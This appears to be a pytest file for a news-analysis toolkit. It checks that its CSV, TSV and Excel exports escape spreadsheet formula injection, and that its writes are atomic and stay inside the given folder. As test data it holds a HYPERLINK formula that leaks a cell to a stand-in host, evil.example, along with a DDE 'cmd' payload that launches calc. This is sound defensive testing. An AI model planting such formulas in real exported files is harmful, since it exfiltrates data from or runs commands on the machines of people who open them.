"""Issue 13, items 4 and 5: every CSV and Excel file the toolkit writes is safe to open in a
spreadsheet, and every write is atomic and stays inside the folder it was given.

Hostile values are what a scraped page can carry: a title, an outlet (site name) or a speaker
that starts with ``=``, ``+``, ``-`` or ``@``. Written files are read back with ``csv`` and
openpyxl, and no cell may be a formula.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import pandas as pd  # noqa: E402
import pytest  # noqa: E402
from openpyxl import load_workbook  # noqa: E402

from coverage_kit import cli  # noqa: E402
from coverage_kit import export as E  # noqa: E402
from coverage_kit import report as R  # noqa: E402

from _frames import articles_frame, quotes_frame, reactions_frame  # noqa: E402

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Reuters")'
HOSTILE = [LINK, "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1"]
SPEAKERS = ["-Ilona Brask", "@Valkan", "+Lin Hao"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_articles() -> pd.DataFrame:
    arts = articles_frame()
    arts["outlet"] = arts["outlet"].cat.rename_categories({"TASS": LINK, "AP": "@SUM(1)"})
    for i, title in enumerate(HOSTILE):
        arts.loc[i, "title"] = title
    return arts


def _hostile_quotes() -> pd.DataFrame:
    q = quotes_frame()
    q["speaker"] = q["speaker"].astype("object")
    for i, name in enumerate(SPEAKERS):
        q.loc[i, "speaker"] = name
    return q


def _csv_cells(path: Path) -> list[list[str]]:
    delimiter = "\t" if path.suffix == ".tsv" else ","
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


def assert_csv_safe(path: Path) -> list[list[str]]:
    rows = _csv_cells(path)
    live = [(r, c, v) for r, row in enumerate(rows) for c, v in enumerate(row)
            if v.startswith(TRIGGERS) and not _is_number(v)]
    assert not live, f"{path.name}: cells a spreadsheet would run: {live[:5]}"
    return rows


def _is_number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True


def assert_xlsx_safe(path: Path) -> dict[str, list]:
    wb = load_workbook(path)
    values: dict[str, list] = {}
    for ws in wb.worksheets:
        vals = []
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate}: " \
                                              f"formula {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} {cell.value!r}"
                vals.append(cell.value)
        values[ws.title] = vals
    return values


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".xlsx"])
def test_write_table_escapes_formulas_and_keeps_numbers(tmp_path, suffix):
    df = pd.DataFrame({"title": HOSTILE, "outlet": pd.Categorical([LINK] * 6),
                       "delta": [-3, 4, -1, 0, 2, -7], "tone": [-0.5] * 6,
                       "note": ["Talks resume", None, "-", "", "a-b", "2025-03-06"]})
    path = tmp_path / f"t{suffix}"
    E.write_table(df, path)
    if suffix == ".xlsx":
        cells = assert_xlsx_safe(path)["Sheet1"]
        assert LINK in cells and "-2+3" in cells  # the text is kept exactly, marked as text
        assert -3 in cells and -7 in cells and -0.5 in cells  # numbers stay numbers
        back = pd.read_excel(path)
    else:
        rows = assert_csv_safe(path)
        assert rows[1][:3] == ["'" + LINK, "'" + LINK, "-3"]
        assert rows[4][0] == "'-2+3"
        back = pd.read_csv(path, sep="\t" if suffix == ".tsv" else ",")
    assert back["delta"].tolist() == [-3, 4, -1, 0, 2, -7]
    assert back["tone"].dtype.kind == "f"


def test_a_hostile_column_name_is_escaped_too(tmp_path):
    df = pd.DataFrame({"=1+1": [1], "outlet": ["Reuters"]})
    E.write_table(df, tmp_path / "t.csv")
    assert _csv_cells(tmp_path / "t.csv")[0] == ["'=1+1", "outlet"]
    E.write_table(df, tmp_path / "t.xlsx")
    assert_xlsx_safe(tmp_path / "t.xlsx")


def test_parquet_and_jsonl_stay_raw(tmp_path):
    df = pd.DataFrame({"title": HOSTILE})
    E.write_table(df, tmp_path / "t.parquet")
    E.write_table(df, tmp_path / "t.jsonl")
    assert pd.read_parquet(tmp_path / "t.parquet")["title"].tolist() == HOSTILE
    assert [json.loads(x)["title"] for x in
            (tmp_path / "t.jsonl").read_text(encoding="utf-8").splitlines()] == HOSTILE


def test_cli_load_out_csv_tsv_xlsx_escape_hostile_titles_and_outlets(tmp_path, capsys):
    src = tmp_path / "in" / "stories.csv"
    src.parent.mkdir()
    arts = _hostile_articles()
    pd.DataFrame({"title": arts["title"], "media_name": arts["outlet"].astype(str),
                  "publish_date": arts["published"].dt.strftime("%Y-%m-%dT%H:%M:%SZ"),
                  "url": [f"https://example.org/{i}" for i in range(len(arts))],
                  "text": arts["text"]}).to_csv(src, index=False)
    for suffix in (".csv", ".tsv", ".xlsx"):
        out = tmp_path / f"articles{suffix}"
        assert cli.main(["load", str(src), "--out", str(out), "--no-progress"]) == 0
        if suffix == ".xlsx":
            cells = [v for vs in assert_xlsx_safe(out).values() for v in vs]
        else:
            cells = [v for row in assert_csv_safe(out) for v in row]
            assert "'" + LINK in cells and "'-2+3" in cells
        assert any(isinstance(v, str) and "HYPERLINK" in v for v in cells)
    # Parquet is data: the loaded title comes back exactly as it was
    assert cli.main(["load", str(src), "--out", str(tmp_path / "a.parquet"),
                     "--no-progress"]) == 0
    assert LINK in pd.read_parquet(tmp_path / "a.parquet")["title"].tolist()


def test_report_tables_escape_hostile_titles_outlets_and_speakers(tmp_path, monkeypatch):
    monkeypatch.setattr(R, "_charts", lambda *a, **k: [])  # the tables are what is checked
    monkeypatch.setattr(R, "_extract", lambda arts, focus, actors, progress: (
        _hostile_quotes(), reactions_frame(), "XVA"))
    res = R.write_report(_hostile_articles(), tmp_path / "report", progress=False)
    seen = set()
    for path in res.tables.values():
        seen.update(v for row in assert_csv_safe(path) for v in row)
    assert {"'" + LINK, "'@SUM(1)", "'-2+3"} <= seen  # titles, outlets
    quotes = {v for row in assert_csv_safe(res.tables["quotes"]) for v in row}
    assert {"'" + s for s in SPEAKERS} <= quotes
    book = assert_xlsx_safe(res.excel)
    assert set(SPEAKERS) <= set(book["quotes"]) and LINK in book["articles"]
    matrix = pd.read_excel(res.excel, sheet_name="outlet_date_matrix")
    assert LINK in set(matrix.iloc[:, 0]) or LINK in set(matrix.columns)
    # the page shows the text as text (escaped HTML), not as a formula or with an apostrophe
    assert "'=HYPERLINK" not in res.html.read_text(encoding="utf-8")


def test_dashboard_export_escapes_hostile_cells(tmp_path):
    from coverage_kit.widgets import dashboard

    arts = _hostile_articles()
    quotes = _hostile_quotes()
    reactions = reactions_frame()
    for df in (quotes, reactions):
        df["outlet"] = pd.Categorical(df["outlet"].astype(str).replace(
            {"TASS": LINK, "AP": "@SUM(1)"}), dtype=arts["outlet"].dtype)
    board = dashboard(arts, quotes, reactions, export_dir=tmp_path / "exports")
    written = board.export(formats=("svg",))
    csvs = [p for p in written if p.suffix == ".csv"]
    assert csvs
    seen = set()
    for path in csvs:
        seen.update(v for row in assert_csv_safe(path) for v in row)
    assert "'" + LINK in seen and "'-2+3" in seen
    assert not [p for p in (tmp_path / "exports").iterdir() if p.name.startswith(".")]


# --------------------------------------------------------------------------------------------
# Atomic, contained writes
# --------------------------------------------------------------------------------------------


def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def test_atomic_write_keeps_the_old_file_when_interrupted_and_cleans_stale_parts(tmp_path):
    path = tmp_path / "quotes.csv"
    E.write_table(pd.DataFrame({"q": ["old"]}), path)
    stale = tmp_path / f".quotes.csv.ck{_dead_pid()}-x1y2.part.csv"
    stale.write_text("half a fi")
    with pytest.raises(KeyboardInterrupt):
        with E.atomic_path(path) as tmp:
            tmp.write_text("q\nne")
            raise KeyboardInterrupt
    assert path.read_bytes() == b"q\r\nold\r\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["quotes.csv"]  # stale part removed
    assert E.leftovers() == []


def _quick_report(monkeypatch):
    monkeypatch.setattr(R, "_charts", lambda *a, **k: [])


def test_report_replaces_its_folder_whole_and_never_follows_symlinks(tmp_path, monkeypatch):
    _quick_report(monkeypatch)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (outside / "keep.txt").write_text("mine")
    out = tmp_path / "report"
    out.mkdir()
    (out / "tables").symlink_to(outside, target_is_directory=True)
    (out / "report.html").write_text("an old report")
    res = R.write_report(articles_frame(), out, progress=False)
    assert sorted(p.name for p in outside.iterdir()) == ["keep.txt"]  # nothing written there
    assert not (out / "tables").is_symlink() and (out / "tables" / "articles.csv").is_file()
    assert res.tables["articles"] == out / "tables" / "articles.csv"
    assert (out / R.MARKER).is_file()
    # only the report and the folder it replaced: no staging folder beside it
    assert sorted(p.name for p in tmp_path.iterdir()) == ["elsewhere", "report"]


def test_report_refuses_a_folder_it_did_not_write(tmp_path, monkeypatch):
    _quick_report(monkeypatch)
    out = tmp_path / "thesis"
    out.mkdir()
    (out / "chapter1.docx").write_text("not a report")
    with pytest.raises(ValueError, match=r"thesis: this folder holds files coverage-kit did "
                                         r"not write \(chapter1\.docx\)"):
        R.write_report(articles_frame(), out, progress=False)
    assert sorted(p.name for p in out.iterdir()) == ["chapter1.docx"]
    # a report written there before (marker file) may hold anything: it is replaced whole
    R.write_report(articles_frame(), tmp_path / "r", progress=False)
    (tmp_path / "r" / "notes.txt").write_text("added by hand")
    R.write_report(articles_frame(), tmp_path / "r", progress=False)
    assert not (tmp_path / "r" / "notes.txt").exists()


def test_a_stale_staging_folder_is_removed_by_the_next_report(tmp_path, monkeypatch):
    _quick_report(monkeypatch)
    stale = tmp_path / f".coverage-kit-report.{_dead_pid()}-k1ll3d"
    (stale / "tables").mkdir(parents=True)
    (stale / "tables" / "articles.csv").write_text("article_id\n")
    R.write_report(articles_frame(), tmp_path / "report", progress=False)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


def test_an_interrupt_python_dropped_still_stops_the_report(tmp_path, monkeypatch):
    """A Ctrl-C whose KeyboardInterrupt a library swallowed (as one raised inside a ``__del__``
    is) must not let the report finish as if nothing happened."""
    _quick_report(monkeypatch)
    out = tmp_path / "report"
    R.write_report(articles_frame(), out, progress=False)
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    real = R._write_files

    def swallowing(*args, **kwargs):
        staged = real(*args, **kwargs)
        try:
            os.kill(os.getpid(), signal.SIGINT)
            for _ in range(10_000):  # the handler runs between bytecodes
                pass
        except KeyboardInterrupt:
            pass  # what "Exception ignored in __del__" amounts to
        return staged

    monkeypatch.setattr(R, "_write_files", swallowing)
    with pytest.raises(KeyboardInterrupt):
        R.write_report(articles_frame(), out, progress=False)
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


def test_cli_says_nothing_was_left_only_when_true(tmp_path, monkeypatch, capsys):
    _quick_report(monkeypatch)
    real = R._write_files

    def interrupted(work, **kwargs):
        real(work, **kwargs)
        raise KeyboardInterrupt

    monkeypatch.setattr(R, "_write_files", interrupted)
    sample = Path(__file__).resolve().parents[1] / "data" / "sample" / "newsplease"
    rc = cli.main(["report", str(sample), "--out", str(tmp_path / "r"), "--no-progress"])
    assert rc == 130
    assert "no partial files were left behind" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []

    # a staging folder that could not be removed is named instead
    monkeypatch.setattr(R.shutil, "rmtree", lambda *a, **k: None)
    rc = cli.main(["report", str(sample), "--out", str(tmp_path / "r"), "--no-progress"])
    err = capsys.readouterr().err
    assert rc == 130 and "no partial files" not in err
    assert "partial files remain" in err and ".coverage-kit-r." in err
    E.STAGING.clear()


def test_without_an_atomic_exchange_the_report_is_still_replaced_whole(tmp_path, monkeypatch):
    """Systems without renameat2(RENAME_EXCHANGE) (macOS, some file systems) swap by two
    renames, with Ctrl-C held back between them."""
    _quick_report(monkeypatch)
    monkeypatch.setattr(R, "_exchange", lambda a, b: False)
    out = tmp_path / "report"
    R.write_report(articles_frame(), out, progress=False)
    (out / "tables" / "stale.csv").write_text("from an older run")
    res = R.write_report(articles_frame(), out, progress=False)
    assert not (out / "tables" / "stale.csv").exists() and res.html.is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]
